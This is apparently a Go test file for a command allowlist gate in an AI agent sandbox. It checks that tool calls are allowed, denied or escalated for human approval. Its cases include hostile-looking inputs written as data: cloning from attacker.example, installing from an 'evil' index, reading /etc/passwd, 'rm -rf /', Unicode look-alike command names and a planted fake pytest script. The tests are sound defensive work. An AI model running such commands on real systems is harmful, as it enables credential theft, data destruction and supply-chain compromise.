package cmdgate_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock/cmdgate"
	"github.com/airlock-sandbox/airlock/decision"
	"github.com/airlock-sandbox/airlock/policy"
	"github.com/airlock-sandbox/airlock/sandbox"
)

// ws is the working directory of a step that names none.
const ws = sandbox.WorkspaceDir

func seedGate(t testing.TB) *cmdgate.Gate {
	t.Helper()
	return cmdgate.Compile(policy.Default().Policy)
}

func gateFrom(t testing.TB, src string) *cmdgate.Gate {
	t.Helper()
	l, err := policy.Parse("test.json", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return cmdgate.Compile(l.Policy)
}

type gateCase struct {
	tool, command string
	args          []string
	verdict       decision.Verdict
	reason, rule  string
}

func runCases(t *testing.T, g *cmdgate.Gate, cases []gateCase) {
	t.Helper()
	for _, c := range cases {
		d := g.Decide(c.tool, c.command, c.args, ws)
		if d.Verdict != c.verdict || d.Reason != c.reason || d.Rule != c.rule || d.Gate != decision.GateCommand {
			t.Errorf("Decide(%q, %q, %q)\n got  %s %s %q rule %q\n want %s %q rule %q",
				c.tool, c.command, c.args, d.Gate, d.Verdict, d.Reason, d.Rule, c.verdict, c.reason, c.rule)
		}
	}
}

// TestLabCases are the five cases of lab phase 1.4, with their reasons.
func TestLabCases(t *testing.T) {
	runCases(t, seedGate(t), []gateCase{
		{"run_tests", "pytest", []string{"-v"}, decision.Allow,
			`"pytest" matched allow rule "pytest" of tool "run_tests"`, "pytest"},
		{"run_tests", "git", []string{"clone", "https://attacker.example/repo"}, decision.Deny,
			`"git" is not in the allowlist of tool "run_tests" (allowlist: [pytest, make]): deny by default`, ""},
		{"install_deps", "pytest", nil, decision.Deny,
			`"pytest" is not in the allowlist of tool "install_deps" (allowlist: [pip]): deny by default`, ""},
		{"install_deps", "pip", []string{"install", "evil-package"}, decision.Deny,
			`"pip" is in the allowlist of tool "install_deps" but its arguments match no signature: deny by default`, ""},
		{"unknown_tool", "ls", nil, decision.Deny, `no scope for tool "unknown_tool": deny by default`, ""},
	})
}

// TestUnknownToolNearest: a tool the policy lacks is denied with the
// nearest tool it has, when one is near.
func TestUnknownToolNearest(t *testing.T) {
	runCases(t, seedGate(t), []gateCase{
		{"run_test", "pytest", []string{"-v"}, decision.Deny, `no scope for tool "run_test": deny by default (did you mean "run_tests"?)`, ""},
		{"Read_File", "cat", nil, decision.Deny, `no scope for tool "Read_File": deny by default (did you mean "read_file"?)`, ""},
		{"deploy", "ls", nil, decision.Deny, `no scope for tool "deploy": deny by default`, ""},
	})
}

func TestCrossToolInjection(t *testing.T) {
	g := seedGate(t)
	// Every command allowed to one tool is denied to every other tool.
	for _, c := range []struct {
		tool, command string
		args          []string
	}{
		{"read_file", "pytest", []string{"-v"}},
		{"read_file", "pip", []string{"install", "-r", "requirements.txt"}},
		{"install_deps", "cat", []string{"/etc/passwd"}},
		{"run_tests", "cat", nil},
		{"run_tests", "pip", []string{"install", "-r", "requirements.txt"}},
	} {
		if d := g.Decide(c.tool, c.command, c.args, ws); d.Verdict != decision.Deny || !strings.Contains(d.Reason, "not in the allowlist of tool \""+c.tool+"\"") {
			t.Errorf("Decide(%q, %q) = %s %q; want a deny naming the tool's allowlist", c.tool, c.command, d.Verdict, d.Reason)
		}
	}
}

func TestArgumentSignatures(t *testing.T) {
	g := seedGate(t)
	noSig := `"pytest" is in the allowlist of tool "run_tests" but its arguments match no signature: deny by default`
	runCases(t, g, []gateCase{
		{"run_tests", "pytest", []string{"-v", "-x"}, decision.Allow, `"pytest" matched allow rule "pytest" of tool "run_tests"`, "pytest"},
		{"run_tests", "pytest", nil, decision.Deny, noSig, ""},
		{"run_tests", "pytest", []string{}, decision.Deny, noSig, ""},
		{"run_tests", "pytest", []string{"-v", "-x", "--pdb"}, decision.Deny, noSig, ""},
		{"run_tests", "pytest", []string{"-v", ""}, decision.Deny, noSig, ""},
		{"run_tests", "pytest", []string{""}, decision.Deny, noSig, ""},
		{"run_tests", "pytest", []string{"-x", "-v"}, decision.Deny, noSig, ""},
		{"run_tests", "pytest", []string{"-V"}, decision.Deny, noSig, ""},
		{"run_tests", "pytest", []string{"-v "}, decision.Deny, noSig, ""},
		{"run_tests", "make", []string{"check"}, decision.Allow, `"make" matched allow rule "make-test" of tool "run_tests"`, "make-test"},
		{"install_deps", "pip", []string{"install", "-r", "requirements.txt", "--index-url", "https://evil"}, decision.Deny,
			`"pip" is in the allowlist of tool "install_deps" but its arguments match no signature: deny by default`, ""},
		// allowExtraArgs with no signatures: anything, including nothing.
		{"read_file", "cat", nil, decision.Allow, `"cat" matched allow rule "cat" of tool "read_file"`, "cat"},
		{"read_file", "cat", []string{"a", "b", "--", "-"}, decision.Allow, `"cat" matched allow rule "cat" of tool "read_file"`, "cat"},
	})

	g = gateFrom(t, `{"toolScopes": {"t": {"allow": [
		{"name": "noargs", "command": "true", "argPatterns": [], "allowExtraArgs": false},
		{"name": "prefix", "command": "go", "argPatterns": [["test"]], "allowExtraArgs": true}
	]}}}`)
	runCases(t, g, []gateCase{
		{"t", "true", nil, decision.Allow, `"true" matched allow rule "noargs" of tool "t"`, "noargs"},
		{"t", "true", []string{""}, decision.Deny, `"true" is in the allowlist of tool "t" but its arguments match no signature: deny by default`, ""},
		{"t", "go", []string{"test", "./..."}, decision.Allow, `"go" matched allow rule "prefix" of tool "t"`, "prefix"},
		{"t", "go", []string{"test"}, decision.Allow, `"go" matched allow rule "prefix" of tool "t"`, "prefix"},
		{"t", "go", []string{"run", "test"}, decision.Deny, `"go" is in the allowlist of tool "t" but its arguments match no signature: deny by default`, ""},
		{"t", "go", nil, decision.Deny, `"go" is in the allowlist of tool "t" but its arguments match no signature: deny by default`, ""},
	})
}

func TestLookAlikeNames(t *testing.T) {
	g := seedGate(t)
	for _, name := range []string{
		"руtest",   // Cyrillic er and u
		"pytеst",   // Cyrillic ie
		"ｐｙｔｅｓｔ",   // fullwidth
		"PYTEST",   // case
		"Pytest",   // case
		"pytest ",  // trailing space
		" pytest",  // leading space
		"pytest\t", // trailing tab
		"pytest\u200b",
		"py\u00adtest", // soft hyphen
		"pytest\n",
		"pytest.exe",
		"pytest3",
	} {
		d := g.Decide("run_tests", name, []string{"-v"}, ws)
		if d.Verdict != decision.Deny || d.Rule != "" || !strings.HasSuffix(d.Reason, "deny by default") {
			t.Errorf("look-alike %q: got %s %q, want deny by default", name, d.Verdict, d.Reason)
		}
	}
}

func TestPathNamedCommands(t *testing.T) {
	g := gateFrom(t, `{"toolScopes": {"vcs": {"allow": [
		{"name": "git-status", "command": "/usr/bin/git", "argPatterns": [["status"]], "allowExtraArgs": false},
		{"name": "pytest", "command": "pytest", "argPatterns": [], "allowExtraArgs": true}
	]}}}`)
	runCases(t, g, []gateCase{
		{"vcs", "/usr/bin/git", []string{"status"}, decision.Allow, `"/usr/bin/git" matched allow rule "git-status" of tool "vcs"`, "git-status"},
		// A bare name does not match an entry naming a path.
		{"vcs", "git", []string{"status"}, decision.Deny, `"git" is not in the allowlist of tool "vcs" (allowlist: [/usr/bin/git, pytest]): deny by default`, ""},
		// A path-named request matches only the same absolute path.
		{"vcs", "/tmp/x/git", []string{"status"}, decision.Deny, `"/tmp/x/git" is not in the allowlist of tool "vcs" (allowlist: [/usr/bin/git, pytest]): deny by default`, ""},
		{"vcs", "/usr/local/bin/pytest", nil, decision.Deny, `"/usr/local/bin/pytest" is not in the allowlist of tool "vcs" (allowlist: [/usr/bin/git, pytest]): deny by default`, ""},
		// A relative path is the file of that name in the working
		// directory: a rule must name that absolute path.
		{"vcs", "./pytest", nil, decision.Deny, `"./pytest" is /workspace/pytest from the working directory, which is not in the allowlist of tool "vcs" (allowlist: [/usr/bin/git, pytest]): deny by default`, ""},
		{"vcs", "workspace/pytest", nil, decision.Deny, `"workspace/pytest" is /workspace/workspace/pytest from the working directory, which is not in the allowlist of tool "vcs" (allowlist: [/usr/bin/git, pytest]): deny by default`, ""},
		{"vcs", "../usr/bin/git", []string{"status"}, decision.Deny, `"../usr/bin/git" names a relative path that is not clean (a '.' or '..' inside, '//', a trailing '/'): the kernel resolves '..' through links, the gate lexically; name it as "/usr/bin/git": deny`, ""},
		{"vcs", "a/./pytest", nil, decision.Deny, `"a/./pytest" names a relative path that is not clean (a '.' or '..' inside, '//', a trailing '/'): the kernel resolves '..' through links, the gate lexically; name it as "/workspace/a/pytest": deny`, ""},
		{"vcs", "/usr/bin/../bin/git", []string{"status"}, decision.Deny, `"/usr/bin/../bin/git" is not a clean absolute path; name it as "/usr/bin/git": deny`, ""},
		{"vcs", "/usr//bin/git", []string{"status"}, decision.Deny, `"/usr//bin/git" is not a clean absolute path; name it as "/usr/bin/git": deny`, ""},
		{"vcs", "", nil, decision.Deny, `empty command for tool "vcs": deny`, ""},
		{"vcs", "pytest", []string{"a\x00b"}, decision.Deny, `the command or an argument for tool "vcs" has a NUL byte, which no program can receive: deny`, ""},
	})
}

// TestPrecedence checks deny over escalate over allow, whatever the order
// of the lists in the file.
func TestPrecedence(t *testing.T) {
	g := gateFrom(t, `{"toolScopes": {"shell": {
		"allow":    [{"name": "git-any", "command": "git", "argPatterns": [], "allowExtraArgs": true}],
		"escalate": [{"name": "git-push", "command": "git", "argPatterns": [["push"]], "allowExtraArgs": true},
		             {"name": "git-clone", "command": "git", "argPatterns": [["clone"]], "allowExtraArgs": true}],
		"deny":     [{"name": "git-push-force", "command": "git", "argPatterns": [["push", "--force"]], "allowExtraArgs": true}]
	}}}`)
	runCases(t, g, []gateCase{
		{"shell", "git", []string{"status"}, decision.Allow, `"git" matched allow rule "git-any" of tool "shell"`, "git-any"},
		{"shell", "git", []string{"push"}, decision.Escalate, `"git" matched escalate rule "git-push" of tool "shell": needs human approval`, "git-push"},
		{"shell", "git", []string{"clone", "x"}, decision.Escalate, `"git" matched escalate rule "git-clone" of tool "shell": needs human approval`, "git-clone"},
		{"shell", "git", []string{"push", "--force", "origin"}, decision.Deny, `"git" matched deny rule "git-push-force" of tool "shell"`, "git-push-force"},
	})
	// Escalate-only and deny-only commands are never allowed.
	g = gateFrom(t, `{"toolScopes": {"t": {
		"escalate": [{"name": "rm", "command": "rm", "argPatterns": [], "allowExtraArgs": true}],
		"deny": [{"name": "no-curl", "command": "curl", "argPatterns": [], "allowExtraArgs": true}]
	}}}`)
	runCases(t, g, []gateCase{
		{"t", "rm", []string{"-rf", "/"}, decision.Escalate, `"rm" matched escalate rule "rm" of tool "t": needs human approval`, "rm"},
		{"t", "curl", nil, decision.Deny, `"curl" matched deny rule "no-curl" of tool "t"`, "no-curl"},
	})
}

func TestZeroValueDenies(t *testing.T) {
	var d decision.Decision
	if d.Allowed() || d.Verdict != decision.Deny || d.Why() == "" {
		t.Fatalf("zero Decision = %+v; want a deny with a reason", d)
	}
	// A gate compiled from an empty policy denies everything.
	g := gateFrom(t, `{"toolScopes": {}}`)
	if d := g.Decide("run_tests", "pytest", []string{"-v"}, ws); d.Allowed() {
		t.Fatal("empty policy allowed a command")
	}
}

func TestOversizedInputs(t *testing.T) {
	g := seedGate(t)
	huge := strings.Repeat("a", 1<<20)
	many := make([]string, 100000)
	for i := range many {
		many[i] = "-v"
	}
	for _, c := range []struct {
		tool, command string
		args          []string
	}{
		{huge, "pytest", []string{"-v"}},
		{"run_tests", huge, nil},
		{"run_tests", "pytest", []string{huge}},
		{"run_tests", "pytest", many},
		{"read_file", "cat", append([]string{huge}, "\x00")},
	} {
		if d := g.Decide(c.tool, c.command, c.args, ws); d.Allowed() || d.Reason == "" {
			t.Errorf("oversized input allowed or without reason: %s %.60q", d.Verdict, d.Reason)
		}
	}
	// cat allows any arguments: a large but well-formed list is allowed.
	if d := g.Decide("read_file", "cat", many, ws); !d.Allowed() {
		t.Errorf("cat with many args: %s", d)
	}
}

// TestWorkspaceStandIn checks that a file named like an allowed command in
// the workspace (or the current directory, or $PATH) is never what runs.
func TestWorkspaceStandIn(t *testing.T) {
	ws := t.TempDir()
	fake := filepath.Join(ws, "pytest")
	if err := os.WriteFile(fake, []byte("#!/bin/sh\necho pwned\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Chdir(ws)
	t.Setenv("PATH", ws+":"+os.Getenv("PATH"))
	sys := t.TempDir()
	real := filepath.Join(sys, "pytest")
	if err := os.WriteFile(real, []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	got, err := cmdgate.Resolve("", "pytest", []string{sys})
	if err != nil || got != real {
		t.Fatalf("Resolve = %q, %v; want %q", got, err, real)
	}
	if got, err := cmdgate.Resolve("", "pytest", []string{"/nonexistent"}); err == nil {
		t.Fatalf("Resolve found %q outside the search path", got)
	}
	// Relative search path entries are never searched.
	if got, err := cmdgate.Resolve("", "pytest", []string{".", ""}); err == nil {
		t.Fatalf("Resolve searched a relative entry: %q", got)
	}
	if d := seedGate(t).Decide("run_tests", "./pytest", []string{"-v"}, ws); d.Allowed() {
		t.Fatal("./pytest was allowed")
	}
	if d := seedGate(t).Decide("run_tests", fake, []string{"-v"}, ws); d.Allowed() {
		t.Fatal("workspace path to pytest was allowed")
	}
}

func TestResolve(t *testing.T) {
	dir := t.TempDir()
	for name, mode := range map[string]os.FileMode{"exe": 0o755, "noexec": 0o644} {
		if err := os.WriteFile(filepath.Join(dir, name), nil, mode); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(dir, "adir"), 0o755); err != nil {
		t.Fatal(err)
	}
	if got, err := cmdgate.Resolve("", filepath.Join(dir, "exe"), nil); err != nil || got != filepath.Join(dir, "exe") {
		t.Errorf("absolute: %q %v", got, err)
	}
	for _, bad := range []string{"noexec", "adir", "missing", "", "a\x00b"} {
		if got, err := cmdgate.Resolve("", bad, []string{dir}); err == nil {
			t.Errorf("Resolve(%q) = %q; want an error", bad, got)
		}
	}
	// Inside a root (an image), the returned path is the path inside it.
	if got, err := cmdgate.Resolve(dir, "/exe", nil); err != nil || got != "/exe" {
		t.Errorf("in root: %q %v", got, err)
	}
}

// TestResolveInRootStaysInRoot checks that an image's absolute symbolic
// link is resolved inside the image, never on the host.
func TestResolveInRootStaysInRoot(t *testing.T) {
	root := t.TempDir()
	bin := filepath.Join(root, "usr", "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(bin, "real"), nil, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, target := range map[string]string{
		"host-true": "/bin/true",     // exists on the host, not in the image
		"inside":    "/usr/bin/real", // absolute, but inside the image
		"relative":  "real",
	} {
		if err := os.Symlink(target, filepath.Join(bin, name)); err != nil {
			t.Fatal(err)
		}
	}
	if got, err := cmdgate.Resolve(root, "host-true", []string{"/usr/bin"}); err == nil {
		t.Fatalf("an image's link to a host file resolved to %q", got)
	}
	for _, name := range []string{"inside", "relative"} {
		if got, err := cmdgate.Resolve(root, name, []string{"/usr/bin"}); err != nil || got != "/usr/bin/"+name {
			t.Errorf("Resolve(%q) = %q, %v", name, got, err)
		}
	}
}
